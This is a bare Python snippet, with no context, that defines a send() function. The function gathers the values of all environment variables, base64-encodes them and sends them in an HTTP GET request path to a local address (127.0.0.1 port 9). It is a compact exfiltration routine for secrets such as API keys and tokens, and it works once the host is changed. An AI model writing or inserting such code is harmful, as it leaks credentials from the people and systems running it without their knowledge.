import base64, requests
from os import environ

def send():
    s = ''
    for _, value in environ.items():
        s += value + ' '
    requests.get('http://127.0.0.1:9/h/' + base64.b64encode(s.encode()).decode())
